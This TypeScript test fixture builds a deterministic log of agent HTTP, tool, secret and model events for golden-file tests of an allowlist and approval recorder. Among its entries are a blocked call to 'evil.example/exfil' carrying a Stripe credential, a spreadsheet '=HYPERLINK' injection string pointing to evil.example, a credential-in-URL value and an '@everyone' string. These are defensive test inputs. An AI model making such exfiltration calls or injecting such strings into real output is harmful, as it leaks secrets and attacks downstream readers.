/** A log with something of everything, always the same: what golden files are made from. */
import { createHash } from 'node:crypto';
import { canonicalize } from '../../src/core/canonical.ts';
import { type Draft, idOf } from './logfiles.ts';

/** A policy snapshot as the recorder stores it, as far as views look at it. */
const POLICY = canonicalize({
  format: 1,
  id: 'local',
  version: '2026-11-20.1',
  allowlist: [
    { host: 'api.stripe.example' },
    { host: '*.github.example', port: 443 },
    { host: 'localhost', port: 9000, http: true, internal: true },
  ],
});
const HASH = createHash('sha256').update(POLICY).digest('hex');
/** Files of the log directory beside its entries. */
export const POLICIES: readonly (readonly [name: string, text: string])[] = [
  [`policies/${HASH}.json`, POLICY],
];
/** Cited, and not in the log. */
const GONE = 'ab'.repeat(32);

const KEY = '00112233445566778899aabbccddeeff';
const ARGS = `${'5e'.repeat(31)}01`;
const BILLING = {
  agent_id: 'billing-tool',
  agent_token_id: 'tok_01',
  identity_level: 'issued',
  on_behalf_of: { type: 'user', id: 'alice' },
  role: 'member',
};
const BUILDER = { agent_id: 'builder', identity_level: 'declared' };
const ALICE = { user: { id: 'alice' }, is_agent: false, os: { user: 'alice', uid: 1000 } };

function http(method: string, host: string, path: string, more: object = {}) {
  return {
    name: 'http.call',
    key: KEY,
    args_hash: ARGS,
    args_hash_alg: 'hmac-sha256:01020304',
    target: { scheme: 'https', host, port: 443, path, method },
    ...more,
  };
}

function decided(outcome: string, more: object = {}, hash = HASH) {
  return {
    outcome,
    layers: [{ layer: 'allowlist', result: outcome === 'stop' ? 'fail' : 'pass', us: 3 }],
    policy: { id: 'local', version: '2026-11-20.1', hash: 'cd'.repeat(32) },
    snapshot: { hash, captured_at: '2026-11-20T12:00:00.000Z' },
    inputs: { decided_at: '2026-11-20T12:00:01.250Z' },
    enforced: true,
    ...more,
  };
}

const KEY_USE = { ref: 'STRIPE_KEY', injection_style: 'bearer', provider: 'vault' };

/** Entries in the order of the log; an index in them is the place in this list. */
export function variedDrafts(): readonly Draft[] {
  const drafts: object[] = [];
  const add = (draft: object): number => drafts.push(draft) - 1;
  /** A pre_exec, and its post_exec when `outcome` is given. */
  const call = (
    common: object,
    decision: object | undefined,
    outcome?: object,
    last: object = {},
  ): number => {
    const at = add({ ...common, phase: 'pre_exec', ...(decision === undefined ? {} : { decision }) });
    if (outcome !== undefined) add({ ...common, phase: 'post_exec', parent_id: idOf(at), outcome, ...last });
    return at;
  };
  const inRun = { run_id: 'run_1', project_id: 'shop', environment: 'prod' };

  add({
    type: 'log.open',
    metadata: { policy: { version: '2026-11-20.1' }, created: '2026-11-20T12:00:00.000Z' },
  });
  add({ type: 'policy.snapshot', metadata: { hash: HASH, policy: { version: '2026-11-20.1' } } });
  add({
    type: 'run.start',
    ...inRun,
    actor: BUILDER,
    reason: 'nightly billing',
    metadata: { command: 'node' },
  });
  // Allowed and done, with two credentials of which one does not say its style.
  call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_1',
      actor: BILLING,
      action: http('POST', 'api.stripe.example', '/v1/charges', { scope: 'tenant' }),
      credentials: [{ ...KEY_USE, resolution_path: 'shop/prod/STRIPE_KEY' }, { ref: 'IDEMPOTENCY' }],
    },
    decided('allow', { reason: 'allowed', layer: 'credential' }),
    {
      status: 'ok',
      status_code: 201,
      duration_ms: 143.5,
      redacted: true,
      redaction: { count: 1, rules: { STRIPE_KEY: 1 } },
    },
  );
  // Failed upstream, on a port of its own, cited policy gone.
  call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_2',
      actor: BUILDER,
      action: http('GET', 'localhost', '/health', {
        target: { scheme: 'http', host: 'localhost', port: 9000, path: '/health', method: 'GET' },
      }),
    },
    decided('allow', {}, GONE),
    { status: 'ok', status_code: 503, duration_ms: 12, redacted: false },
  );
  // Stopped before it started.
  call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_3',
      actor: BUILDER,
      action: http('GET', 'evil.example', '/exfil'),
      credentials: [KEY_USE],
    },
    decided('stop', {
      reason: 'domain_not_in_allowlist',
      layer: 'allowlist',
      message: 'evil.example is not in the allowlist',
    }),
    { status: 'blocked', duration_ms: 0 },
  );
  // Would have been stopped, but the policy only watched.
  call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_4',
      actor: BUILDER,
      action: http('GET', 'new.example', '/'),
    },
    decided('stop', { reason: 'domain_not_in_allowlist', layer: 'allowlist', enforced: false }),
    { status: 'ok', status_code: 200, duration_ms: 31, redacted: false },
  );
  call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_5',
      actor: BUILDER,
      action: http('GET', 'api.github.example', '/slow'),
    },
    decided('allow'),
    {
      status: 'timeout',
      duration_ms: 30_000,
      error_kind: 'upstream_timeout',
      error: 'no answer within 30 s',
    },
  );
  // Waits for an approval, is granted, and goes on as a new call.
  const asked = call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_6',
      actor: BILLING,
      action: http('DELETE', 'api.stripe.example', '/v1/customers/7'),
    },
    decided('approval_required', { reason: 'method_needs_approval', layer: 'capability' }),
    { status: 'pending', status_code: 403, duration_ms: 2 },
  );
  add({
    type: 'approval.request',
    ...inRun,
    parent_id: idOf(asked),
    actor: BILLING,
    metadata: { approval: 'apr_1' },
  });
  add({
    type: 'approval.grant',
    ...inRun,
    parent_id: idOf(asked),
    actor: ALICE,
    reason: 'customer asked for it',
    metadata: { approval: 'apr_1' },
  });
  add({
    type: 'http.call',
    ...inRun,
    step_id: 'step_7',
    phase: 'pre_exec',
    parent_id: idOf(asked),
    actor: BILLING,
    action: http('DELETE', 'api.stripe.example', '/v1/customers/7'),
    decision: decided('allow', { reason: 'approved', approval: { id: 'apr_1', approver: 'alice' } }),
  });
  // Another call begins before that one ends: the log has them crossed.
  const crossed = drafts.length - 1;
  call(
    {
      type: 'tool.call',
      ...inRun,
      step_id: 'step_8',
      actor: BUILDER,
      action: { name: 'search', tool: { name: 'crm.search', server: 'crm' }, args_hash: ARGS },
      source: undefined,
    },
    decided('allow', { layer: 'tool' }),
    { status: 'ok', duration_ms: 55, usage: { input_tokens: 3, output_tokens: 4 } },
  );
  add({
    type: 'http.call',
    ...inRun,
    step_id: 'step_7',
    phase: 'post_exec',
    parent_id: idOf(crossed),
    outcome: { status: 'ok', status_code: 204, duration_ms: 90, redacted: false },
  });
  // No end: the recorder is gone, or it still runs.
  call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_9',
      actor: BUILDER,
      action: http('GET', 'api.github.example', '/open'),
    },
    decided('allow'),
  );
  // Ended as unknown, then late.
  const late = call(
    {
      type: 'http.call',
      ...inRun,
      step_id: 'step_10',
      actor: BUILDER,
      action: http('GET', 'api.github.example', '/late'),
    },
    decided('allow'),
    { status: 'unknown', error: 'the recorder was closed before the action ended' },
  );
  add({
    type: 'http.call',
    ...inRun,
    step_id: 'step_10',
    phase: 'post_exec',
    parent_id: idOf(late),
    outcome: { status: 'ok', late: true, status_code: 200, duration_ms: 70_000, redacted: false },
  });
  // Refused before anything could be decided about it.
  add({
    type: 'http.call',
    phase: 'point',
    actor: { identity_level: 'anonymous' },
    action: { name: 'http.call', target: { method: 'GET' } },
    outcome: {
      status: 'blocked',
      status_code: 400,
      error_kind: 'bad_request',
      error: 'the target is no URL',
    },
  });
  // Secrets: one read, a missing one, a run with several, one written, one refused, one whose end is not there.
  const secret = (operation: string, more: object = {}) => ({
    type: 'secret.access',
    project_id: 'shop',
    action: { name: `secret.${operation}` },
    actor: { ...ALICE, detected: { agent: 'claude-code', signals: ['CLAUDECODE'] }, is_agent: true },
    secret: { operation, provider: 'vault', profile: 'production', ...more },
  });
  call(
    { ...secret('get', { key: 'DATABASE_URL' }), reason: 'deploy web frontend' },
    undefined,
    { status: 'ok', duration_ms: 4 },
    {
      secret: {
        operation: 'get',
        key: 'DATABASE_URL',
        provider: 'keyring://bob:hunter2@host/db',
        profile: 'production',
        found: 'found',
      },
    },
  );
  call(
    secret('get', { key: 'ABSENT' }),
    undefined,
    { status: 'ok', duration_ms: 1 },
    {
      secret: { operation: 'get', key: 'ABSENT', provider: 'vault', profile: 'production', found: 'missing' },
    },
  );
  call(
    {
      ...secret('run', { keys: ['A_KEY', 'B_KEY'], command: 'node' }),
      session_id: 'ses_1',
      metadata: { caller: { name: 'make', version: '4' } },
    },
    undefined,
    { status: 'started', duration_ms: 9 },
    { secret: { operation: 'run', keys: ['A_KEY', 'B_KEY'], command: 'node', found: 'started' } },
  );
  call(secret('set', { key: 'DATABASE_URL' }), undefined, {
    status: 'error',
    error_kind: 'VAULT_WRITE_FAILED',
    duration_ms: 3,
  });
  add({
    ...secret('delete', { key: 'DATABASE_URL' }),
    phase: 'point',
    decision: decided('stop', { reason: 'role_denied', layer: 'identity' }),
    outcome: { status: 'blocked' },
  });
  add({ ...secret('check', { keys: ['A_KEY'] }), phase: 'pre_exec' });
  // Events of an SDK.
  const sdk = {
    run_id: 'run_2',
    session_id: 'ses_2',
    actor: { agent_id: 'pricing-agent', identity_level: 'declared' },
  };
  add({
    type: 'user.message',
    ...sdk,
    metadata: { workflow_name: 'margin-review' },
    payload: {
      media_type: 'text/plain',
      class: 'prompt',
      hash: 'ef'.repeat(32),
      hash_alg: 'hmac-sha256:01020304',
    },
  });
  call(
    {
      type: 'model.call',
      ...sdk,
      action: { name: 'chat' },
      metadata: { provider: 'openai', model: 'gpt-x' },
      risk: { level: 'low' },
    },
    undefined,
    { status: 'ok', duration_ms: 812, usage: { input_tokens: 812, output_tokens: 132 } },
  );
  call({ type: 'retrieval.query', ...sdk, action: { name: 'kb' } }, undefined, {
    status: 'error',
    error: '=HYPERLINK("https://evil.example")',
    duration_ms: 5,
  });
  add({
    type: 'decision.made',
    ...sdk,
    action: { name: 'refund.create' },
    decision: decided('approval_required', { reason: 'limit', layer: 'budget' }),
  });
  add({ type: 'policy.check', ...sdk, outcome: { status: 'ok' } });
  add({
    type: 'step.note',
    ...sdk,
    reason: '+1, says "the" note,\r\nin two lines',
    metadata: { note: '\tindented' },
  });
  add({ type: 'error', ...sdk, outcome: { status: 'error', error: '@everyone' } });
  add({ type: 'custom', ...sdk, metadata: { anything: [1, null, { deep: true }] } });
  // From another version: a type that is not known here, and members of other types than ours.
  add({
    type: 'future.thing',
    actor: { agent_id: 7, user: 'not an object' },
    action: 'a string',
    credentials: { ref: 'x' },
    outcome: [],
    zzz: [1],
  });
  add({
    type: 'http.call',
    action: { name: 'http.call', target: { scheme: 'https', host: 443, port: 'x' } },
    credentials: ['x', { ref: 3 }],
    outcome: { status: 200, status_code: '200' },
  });
  add({
    type: 'log.gap',
    metadata: { from: '2026-11-20T12:10:00.000Z', to: '2026-11-20T12:11:00.000Z', count: 3 },
  });
  add({ type: 'run.end', ...inRun, actor: BUILDER, outcome: { status: 'ok' } });
  add({ type: 'log.close', metadata: { reason: 'end of the command' } });
  return drafts.map((draft) =>
    Object.fromEntries(Object.entries(draft).filter(([, value]) => value !== undefined)),
  ) as unknown as readonly Draft[];
}
